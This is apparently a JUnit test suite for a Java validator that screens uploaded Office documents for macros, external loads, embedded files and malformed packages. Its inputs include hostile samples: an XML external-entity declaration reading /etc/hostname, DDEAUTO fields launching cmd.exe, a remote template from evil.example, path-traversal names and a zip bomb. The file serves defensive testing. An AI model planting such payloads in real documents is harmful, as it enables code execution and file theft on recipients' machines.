package yuqing.incident.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class OfficeDocumentTest {

  private static final String TYPES = "[Content_Types].xml";
  private static final String WORD_RELS = "word/_rels/document.xml.rels";

  @TempDir Path folder;

  private OfficeExamination examined(byte[] content) throws IOException {
    assertThat(OfficeDocument.isPacked(content)).isTrue();
    return OfficeDocument.examine(Files.write(folder.resolve("document"), content));
  }

  private OfficeFault fault(OfficeFile file) throws IOException {
    return examined(file.bytes()).fault();
  }

  @ParameterizedTest
  @CsvSource({
    "word/document.xml, application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xl/workbook.xml, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "ppt/presentation.xml,"
        + " application/vnd.openxmlformats-officedocument.presentationml.presentation"
  })
  void aDocumentOfTodaysFormatsIsTaken(String part, String mediaType) throws IOException {
    assertThat(examined(OfficeFile.of(part, mediaType + ".main+xml").bytes()))
        .isEqualTo(OfficeExamination.taken(mediaType));
    assertThat(MediaTypes.TAKEN).containsKey(mediaType);
  }

  @Test
  void whatIsNoDocumentIsNotTaken() throws IOException {
    var none = OfficeFault.NO_OFFICE_DOCUMENT;
    assertThat(fault(new OfficeFile().part("说明.txt", "x"))).isEqualTo(none);
    assertThat(fault(OfficeFile.word().without(TYPES))).isEqualTo(none);
    assertThat(fault(OfficeFile.word().without("word/document.xml"))).isEqualTo(none);
    assertThat(fault(OfficeFile.word().part(TYPES, "no markup"))).isEqualTo(none);
    assertThat(fault(OfficeFile.of("content.xml", "application/vnd.oasis.opendocument.text")))
        .isEqualTo(none);
    var whole = OfficeFile.word().bytes();
    assertThat(examined(Arrays.copyOf(whole, whole.length / 2)).fault()).isEqualTo(none);
  }

  /// Which of two main parts a program opens is its own affair.
  @Test
  void twoMainPartsAreNone() throws IOException {
    var both =
        OfficeFile.override("word/document.xml", MediaTypes.WORD + ".main+xml")
            + OfficeFile.override("xl/workbook.xml", MediaTypes.EXCEL + ".main+xml");
    assertThat(fault(OfficeFile.word().part(TYPES, OfficeFile.types(both))))
        .isEqualTo(OfficeFault.NO_OFFICE_DOCUMENT);
  }

  @Test
  void markupThatDeclaresEntitiesIsNone() throws IOException {
    var hostile =
        """
        <?xml version="1.0"?>
        <!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/hostname">]>
        <Types><Override PartName="/word/document.xml" ContentType="&x;"/></Types>\
        """;
    assertThat(fault(OfficeFile.word().part(TYPES, hostile)))
        .isEqualTo(OfficeFault.NO_OFFICE_DOCUMENT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
      })
  void aDocumentWithMacrosIsRefusedWhateverItsName(String contentType) throws IOException {
    assertThat(fault(OfficeFile.of("word/document.xml", contentType)))
        .isEqualTo(OfficeFault.MACROS);
  }

  @Test
  void macrosAreFoundWhereTheTypesDoNotNameThem() throws IOException {
    assertThat(fault(OfficeFile.word().part("word/vbaProject.bin", "x")))
        .isEqualTo(OfficeFault.MACROS);
    assertThat(fault(OfficeFile.word().part("word/VBAProject.BIN", "x")))
        .isEqualTo(OfficeFault.MACROS);
    var rels = OfficeFile.relationships(OfficeFile.relationship("vbaProject", "x.bin", null));
    assertThat(fault(OfficeFile.word().part(WORD_RELS, rels))).isEqualTo(OfficeFault.MACROS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"attachedTemplate", "image", "frame", "subDocument", "externalLinkPath"})
  void whatIsLoadedFromElsewhereIsRefused(String type) throws IOException {
    var rels =
        OfficeFile.relationships(
            OfficeFile.relationship(type, "https://evil.example/t.dotm", "External"));
    assertThat(fault(OfficeFile.word().part(WORD_RELS, rels))).isEqualTo(OfficeFault.EXTERNAL);
  }

  @ParameterizedTest
  @ValueSource(strings = {"externalLink", "connections"})
  void whatIsLoadedByACommandOrAQueryIsRefused(String part) throws IOException {
    var type = "application/vnd.openxmlformats-officedocument.spreadsheetml." + part + "+xml";
    var override = OfficeFile.override("xl/workbook.xml", MediaTypes.EXCEL + ".main+xml");
    var workbook = OfficeFile.of("xl/workbook.xml", MediaTypes.EXCEL + ".main+xml");
    var typed = OfficeFile.types(override + OfficeFile.override("xl/x.xml", type));
    assertThat(fault(workbook.part(TYPES, typed))).isEqualTo(OfficeFault.EXTERNAL);
    var rels = OfficeFile.relationships(OfficeFile.relationship(part, "x.xml", null));
    assertThat(fault(OfficeFile.word().part("xl/_rels/workbook.xml.rels", rels)))
        .isEqualTo(OfficeFault.EXTERNAL);
  }

  @Test
  void sheetsOfMacrosAreFound() throws IOException {
    var sheet =
        OfficeFile.override("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml");
    var override = OfficeFile.override("xl/workbook.xml", MediaTypes.EXCEL + ".main+xml");
    var workbook = OfficeFile.of("xl/workbook.xml", MediaTypes.EXCEL + ".main+xml");
    assertThat(fault(workbook.part(TYPES, OfficeFile.types(override + sheet))))
        .isEqualTo(OfficeFault.MACROS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" '/>",
        "<w:fldChar w:fldCharType='begin'/><w:instrText>DD</w:instrText>"
            + "<w:instrText>E cmd</w:instrText><w:fldChar w:fldCharType='end'/>",
        "<w:fldChar w:fldCharType='begin'/><w:instrText> IncludeText \"//host/x\"</w:instrText>",
        "<w:instrText>link Excel.Sheet.8 book.xls</w:instrText>"
      })
  void aFieldThatRunsOrLoadsSomethingIsRefused(String field) throws IOException {
    assertThat(fault(OfficeFile.word().part("word/document.xml", text(field))))
        .isEqualTo(OfficeFault.EXTERNAL);
    assertThat(fault(OfficeFile.word().part("word/header1.xml", text(field))))
        .isEqualTo(OfficeFault.EXTERNAL);
  }

  @Test
  void fieldsOfPagesAndLinksAreTaken() throws IOException {
    var fields =
        "<w:fldSimple w:instr=' PAGE '/><w:fldChar w:fldCharType='begin'/>"
            + "<w:instrText> HYPERLINK \"https://school.example/dde\" </w:instrText>"
            + "<w:fldChar w:fldCharType='end'/><w:t>DDE</w:t>";
    assertThat(fault(OfficeFile.word().part("word/document.xml", text(fields)))).isNull();
  }

  private static String text(String within) {
    return "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
        + within
        + "</w:document>";
  }

  @Test
  void aLinkThatAPersonFollowsIsTaken() throws IOException {
    var rels =
        OfficeFile.relationships(
            OfficeFile.relationship("hyperlink", "https://school.example/", "External"));
    assertThat(fault(OfficeFile.word().part(WORD_RELS, rels))).isNull();
  }

  static Stream<Arguments> embedded() {
    return Stream.of(
        arguments("word/embeddings/a.docx", OfficeFile.word().bytes()),
        arguments("word/media/image1.png", OfficeFile.word().bytes()),
        arguments("word/embeddings/oleObject1.bin", new byte[] {-48, -49, 0x11, -32, 1, 2}),
        arguments("word/media/a.jpg", new byte[] {'M', 'Z', 0, 0}));
  }

  @ParameterizedTest
  @MethodSource("embedded")
  void aFileWithinTheDocumentIsRefused(String name, byte[] content) throws IOException {
    assertThat(fault(OfficeFile.word().part(name, content))).isEqualTo(OfficeFault.EMBEDDED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../evil",
        "word/../../evil",
        "/etc/cron.d/x",
        "word\\evil",
        "C:evil",
        "word/a\nb"
      })
  void namesThatLeadOutOfTheDocumentAreRefused(String name) throws IOException {
    assertThat(fault(OfficeFile.word().part(name, "x"))).isEqualTo(OfficeFault.BAD_NAMES);
  }

  /// A program that ignores the case would read another part than the one examined.
  @Test
  void aNameInTwoCasesIsRefused() throws IOException {
    assertThat(fault(OfficeFile.word().part("word/Document.xml", "x")))
        .isEqualTo(OfficeFault.BAD_NAMES);
  }

  @Test
  void whatUnpacksToTooMuchIsRefused() throws IOException {
    var bomb = OfficeFile.word().part("word/media/zeros", new byte[40 * 1024 * 1024]);
    assertThat(bomb.bytes()).hasSizeLessThan(100_000);
    assertThat(fault(bomb)).isEqualTo(OfficeFault.TOO_LARGE);
    assertThat(fault(OfficeFile.word().part("word/media/zeros", new byte[500_000]))).isNull();
  }

  @Test
  void aDocumentOfTooManyPartsIsRefused() throws IOException {
    var many = OfficeFile.word();
    for (int i = 0; i < OfficeDocument.MAX_ENTRIES; i++) {
      many.part("word/media/" + i, "x");
    }
    assertThat(fault(many)).isEqualTo(OfficeFault.TOO_LARGE);
  }
}
